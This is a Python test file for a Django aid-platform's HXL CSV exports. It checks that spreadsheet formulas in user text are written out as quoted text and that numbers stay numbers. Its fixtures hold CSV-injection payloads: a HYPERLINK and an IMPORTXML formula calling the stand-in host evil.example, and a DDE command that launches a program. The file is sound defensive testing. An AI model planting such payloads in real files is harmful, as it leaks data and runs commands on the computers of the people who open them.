"""Issue 10, finding 4: text that a spreadsheet would run as a formula reaches neither the
public nor the members' HXL CSV as a formula, while numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from pobratym.aid import services
from tests.aid.factories import need_post
from tests.downloads import body

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
FORMULAS = {
    "#meta+title": HYPERLINK,
    "#adm2+name": "-2+3+cmd|' /C calc'!A0",
    "#org+name+recipient": "+SUM(1,2)",
    "#item+name": "@SUM(1+1)",
    "#item+description": "=1+1",
}


@pytest.fixture
def need(partnership, receiver):
    need = need_post(
        partnership,
        receiver,
        title=FORMULAS["#meta+title"],
        area=FORMULAS["#adm2+name"],
        institution=FORMULAS["#org+name+recipient"],
        address='=IMPORTXML("http://evil.example","//a")',
        lines=[
            {
                "item": FORMULAS["#item+name"],
                "specification": FORMULAS["#item+description"],
                "quantity": Decimal("2.5"),
                "unit": "box",
            }
        ],
    )
    return services.need_publish(need=need, by=receiver, public=True)


def _rows(text: str) -> list[dict]:
    _labels, hashtags, *lines = csv.reader(io.StringIO(text))
    return [dict(zip(hashtags, line, strict=True)) for line in lines]


def _public(partnership) -> list[dict]:
    response = Client().get(f"/api/v1/partnerships/{partnership.slug}/aid.hxl.csv")
    assert response.status_code == 200
    return _rows(body(response).decode())


def _members(partnership, client) -> list[dict]:
    response = client.get(reverse("aid:need_hxl", args=[partnership.slug]))
    assert response.status_code == 200
    return _rows(body(response).decode())


def test_formulas_in_the_public_hxl_are_written_as_text(partnership, need):
    (row,) = _public(partnership)

    for hashtag, typed in FORMULAS.items():
        assert row[hashtag] == "'" + typed, hashtag
    assert row["#value+requested"] == "2.5"


def test_formulas_in_the_members_hxl_are_written_as_text(partnership, need, receiver, client_of):
    (row,) = _members(partnership, client_of(receiver))

    for hashtag, typed in FORMULAS.items():
        assert row[hashtag] == "'" + typed, hashtag
    assert row["#loc+name+address"].startswith("'=IMPORTXML(")
    assert row["#meta+id"] == str(need.pk)


def test_plain_text_and_numbers_are_written_as_they_are(partnership, receiver):
    need = need_post(partnership, receiver, title="-5", area="Zhytomyr - Bohunskyi district")
    services.need_publish(need=need, by=receiver, public=True)

    (row,) = _public(partnership)

    assert row["#meta+title"] == "-5"
    assert row["#adm2+name"] == "Zhytomyr - Bohunskyi district"
    assert row["#value+requested"] == "100"
